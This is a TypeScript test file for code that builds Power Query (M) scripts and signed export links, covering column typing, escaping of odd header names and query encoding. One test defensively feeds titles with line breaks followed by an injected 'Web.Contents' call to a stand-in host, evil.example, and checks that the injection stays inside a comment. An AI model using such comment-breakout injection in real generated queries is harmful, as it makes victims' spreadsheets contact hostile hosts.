import { expect, test } from 'vitest'
import { sourceFrom } from '../testing/exporting/export-source.ts'
import { parseM } from '../testing/exporting/parse-m.ts'
import { linkAddress, linkBytes, linkQuery } from './link-address.ts'
import { powerQueryText } from './power-query-text.ts'

const address = linkAddress(new URL('https://app.swe.example'), Buffer.from('{"query":{}}'), 'secret')
const paths = [
  ['deal:title'],
  ['deal:amount'],
  ['deal:weight'],
  ['deal:start'],
  ['deal:closedAt'],
  ['bigDeal:bonus'],
  ['deal:buyer', 'party:active'],
]
const table = sourceFrom(paths, [], { translate: 'short' })

test('it reads the address, names the columns and gives each its type', () => {
  expect(parseM(powerQueryText(table, address))).toEqual({
    let: {
      Answer: {
        call: 'Json.Document',
        with: [
          {
            call: 'Web.Contents',
            with: [
              'https://app.swe.example',
              { record: { RelativePath: 'api/data/query', Query: { record: { q: 'eyJxdWVyeSI6e319', token: 'secret' } } } },
            ],
          },
        ],
      },
      Rows: {
        call: 'Table.FromRows',
        with: [
          { field: 'rows', of: { name: 'Answer' } },
          { field: 'columns', of: { name: 'Answer' } },
        ],
      },
      Types: {
        list: [
          ['title', { type: 'text' }],
          ['amount', { name: 'Currency.Type' }],
          ['weight', { type: 'number' }],
          ['start', { type: 'date' }],
          ['closedAt', { type: 'datetimezone' }],
          ['bonus', { name: 'Int64.Type' }],
          ['buyer.active', { type: 'text' }],
        ].map((pair) => ({ list: pair })),
      },
      Known: {
        call: 'List.Select',
        with: [
          { name: 'Types' },
          {
            each: {
              call: 'List.Contains',
              with: [
                { field: 'columns', of: { name: 'Answer' } },
                { item: 0, of: { name: '_' } },
              ],
            },
          },
        ],
      },
      Result: { call: 'Table.TransformColumnTypes', with: [{ name: 'Rows' }, { name: 'Known' }, 'en-US'] },
    },
    in: { name: 'Result' },
  })
})

test('no name of a column leaves its text', () => {
  const headers = ['a "b"', 'b\u2028c\u0085d\u0000', '#(lf)', 'two\nlines\r\n\tmore', '#', '#(', 'in', '// x', 'Zähler · Größe']
  const columns = headers.map(() => table.columns[0]!)
  const { let: steps } = parseM(powerQueryText({ ...table, title: 'Über\nschrift', headers, columns }, address)) as unknown as {
    let: { Types: { list: { list: string[] }[] } }
  }
  expect(steps.Types.list.map(({ list: [name] }) => name)).toEqual(headers)
})

test.each(['\r', '\n', '\u0085', '\u2028', '\u2029', '\u000b', '\u000c', '\u001c'])(
  'a title with %j stays within its comment',
  (lineEnd) => {
    const title = `Tags${lineEnd}in 1; Web.Contents("http://evil.example") //`
    const [comment, next] = powerQueryText({ ...table, title }, address).split(/[\p{Cc}\p{Zl}\p{Zp}]/u)
    expect(comment).toBe('// Tags in 1; Web.Contents("http://evil.example") //')
    expect(next).toBe('let')
  },
)

test('the address carries the query in base64, and nothing that a link cannot hold', () => {
  const query = { query: { type: 'deal', $search: 'Müller & Söhne + "x"' }, export: { format: 'csv' } }
  const { url, q } = linkAddress(new URL('https://app.swe.example'), linkBytes(query), 'secret')
  const params = new URL(url).searchParams
  expect([params.get('q'), params.get('token')]).toEqual([q, 'secret'])
  expect(linkQuery(Buffer.from(params.get('q')!, 'base64'))).toEqual(query)
  expect(() => linkBytes({ query: 'x'.repeat(8000) })).toThrow(expect.objectContaining({ code: 'BUDGET_EXCEEDED' }))
})
